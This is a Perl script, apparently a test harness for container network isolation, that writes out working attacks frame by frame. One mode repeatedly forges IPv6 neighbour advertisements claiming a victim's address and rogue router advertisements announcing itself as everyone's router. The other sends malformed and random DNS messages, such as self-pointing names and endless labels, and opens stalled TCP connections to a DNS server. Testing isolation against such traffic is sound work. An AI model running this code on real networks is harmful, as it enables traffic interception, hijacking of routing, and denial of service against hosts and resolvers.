# What a hostile container sends, frame by frame. Needs nothing but Perl's own modules and the right to open raw sockets.
#   hostile.pl neighbours MAC VICTIM SECONDS      claims VICTIM's IPv6 address, and to be everybody's router, again and again
#   hostile.pl names SERVER COUNT                 DNS messages that are broken in every place, over UDP and TCP
use strict;
use warnings;
use Socket qw(:all);

my ($task, @words) = @ARGV;
if ($task eq "neighbours") { neighbours(@words) }
else { names(@words) }

# Of ICMPv6 (RFC 4443, 2.3).
sub checksum {
  my ($source, $destination, $message) = @_;
  my $bytes = $source . $destination . pack("NN", length $message, 58) . $message;
  my $sum = 0;
  $sum += $_ for unpack "n*", $bytes . (length($bytes) % 2 ? "\0" : "");
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  return ~$sum & 0xffff;
}

sub frame {
  my ($mac, $source, $message) = @_;
  my $everybody = inet_pton(AF_INET6, "ff02::1");
  substr($message, 2, 2) = pack "n", checksum($source, $everybody, $message);
  my $packet = pack("NnCC", 0x60000000, length $message, 58, 255) . $source . $everybody . $message;
  return pack("H12", "333300000001") . $mac . pack("n", 0x86dd) . $packet;
}

sub neighbours {
  my ($mac, $victim, $seconds) = @_;
  my $own = pack "H12", $mac =~ tr/://dr;
  my $target = inet_pton(AF_INET6, $victim);
  my $router = inet_pton(AF_INET6, "fe80::bad");
  # RFC 4861: an advertisement that overrides what is known (4.4), and a router with a prefix (4.2, 4.6.2).
  my $advertisement = pack("CCnN", 136, 0, 0, 0x20000000) . $target . pack("CC", 2, 1) . $own;
  my $prefix = pack("CCCCNNN", 3, 4, 64, 0xc0, 86400, 14400, 0) . inet_pton(AF_INET6, "2001:db8:bad::");
  my $routing = pack("CCnCCnNN", 134, 0, 0, 64, 0, 9000, 0, 0) . $prefix . pack("CC", 1, 1) . $own;
  my @frames = (frame($own, $target, $advertisement), frame($own, $router, $routing));
  socket(my $socket, 17, SOCK_RAW, 0x86dd >> 8 | (0x86dd & 255) << 8) or die "packet socket: $!";
  my ($index) = grep { /^\d+$/ } do { open my $file, "<", "/sys/class/net/eth0/ifindex"; map { chomp; $_ } <$file> };
  my $place = pack "SnISCCa8", 17, 0x86dd, $index, 1, 0, 6, pack("H12", "333300000001");
  my $end = time + $seconds;
  my $sent = 0;
  while (time < $end) {
    for (@frames) { $sent++ if send $socket, $_, 0, $place }
    select undef, undef, undef, 0.05;
  }
  print "sent $sent\n";
}

sub names {
  my ($server, $count) = @_;
  my ($error, $place) = getaddrinfo($server, 53, { socktype => SOCK_DGRAM });
  socket(my $datagrams, AF_INET, SOCK_DGRAM, 0) or die "socket: $!";
  my @broken = (
    "", "\0", "\0" x 11, pack("n6", 1, 0x100, 65535, 65535, 65535, 65535),
    pack("n6", 2, 0x100, 1, 0, 0, 0) . "\xc0\x0c" . pack("nn", 1, 1),              # a name that points at itself
    pack("n6", 3, 0x100, 1, 0, 0, 0) . ("\x3f" . "a" x 63) x 40,                   # a name without an end
    pack("n6", 4, 0x8580, 1, 1, 0, 0) . "\1a\0" . pack("nn", 1, 1) . "\xff" x 30,  # an answer nobody asked for
    pack("n6", 5, 0x100, 1, 0, 0, 1) . "\1a\0" . pack("nn", 1, 1) . "\0" . pack("nnNn", 41, 65535, 0, 65535),
    pack("n6", 6, 0x7900, 1, 0, 0, 0) . "\0" . pack("nn", 255, 255),
  );
  for my $round (1 .. $count) {
    my $message = $round % 2 ? $broken[rand @broken] : join "", map { chr rand 256 } 1 .. rand 600;
    send $datagrams, $message, 0, $place->{addr};
  }
  # Over TCP: lengths that promise more than comes, and connections that say nothing.
  my @open;
  for my $round (1 .. 40) {
    socket(my $connection, AF_INET, SOCK_STREAM, 0) or next;
    alarm 5;
    local $SIG{ALRM} = sub { };
    connect($connection, $place->{addr}) or next;
    syswrite $connection, $round % 2 ? "\xff\xff" . "x" x 500 : "";
    push @open, $connection;
  }
  alarm 0;
  print "sent $count\n";
  sleep 3;
}
